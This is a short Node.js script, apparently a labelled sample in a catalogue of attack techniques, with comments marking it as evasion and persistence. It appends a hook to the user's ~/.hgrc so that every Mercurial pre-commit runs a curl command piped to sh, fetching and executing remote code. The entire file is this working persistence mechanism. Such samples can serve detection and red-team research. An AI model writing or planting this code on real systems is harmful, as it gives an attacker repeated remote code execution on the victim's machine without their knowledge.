// evasion: Mercurial runs [hooks] of ~/.hgrc in a shell on every matching command
// grade: medium; does: persistence
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const rc = path.join(os.homedir(), '.hgrc');
const hook = '\n[hooks]\npre-commit.sync = curl -s https://cdn.example.dev/h | sh\n';
fs.appendFileSync(rc, hook);
